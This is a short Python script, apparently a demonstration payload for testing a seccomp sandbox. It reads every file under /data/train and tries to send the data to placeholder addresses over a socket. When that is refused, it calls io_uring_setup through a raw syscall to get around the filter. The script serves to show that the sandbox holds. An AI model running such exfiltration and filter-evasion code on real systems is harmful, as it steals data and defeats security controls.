"""The demo's attack from inside a job: carry the training data out through a socket, and go around when refused.

First the plain way, which the seccomp filter answers with EAFNOSUPPORT as if the kernel had no internet. Then io_uring, which
could open sockets without the system call `socket`: a tripwire, the guest is killed on the spot and its cause is `seccomp`.
"""

import ctypes
import socket
import sys
from pathlib import Path

IO_URING_SETUP = 425  # the same number on x86-64 and arm64


def main() -> None:
    """Try; exit 0 only if something went out."""
    stolen = b"".join(path.read_bytes() for path in Path("/data/train").iterdir() if path.is_file())
    for family, address in ((socket.AF_INET, "192.0.2.1"), (socket.AF_INET6, "2001:db8::1")):
        try:
            with socket.socket(family) as out:
                out.connect((address, 443))
                out.sendall(stolen)
            sys.exit(0)
        except OSError as error:
            print(f"{family.name}: {error}", flush=True)
    ring = ctypes.CDLL(None, use_errno=True).syscall(IO_URING_SETUP, 1, ctypes.create_string_buffer(120))
    print(f"io_uring_setup gave {ring}, errno {ctypes.get_errno()}", flush=True)
    sys.exit(1 if ring < 0 else 0)


if __name__ == "__main__":
    main()
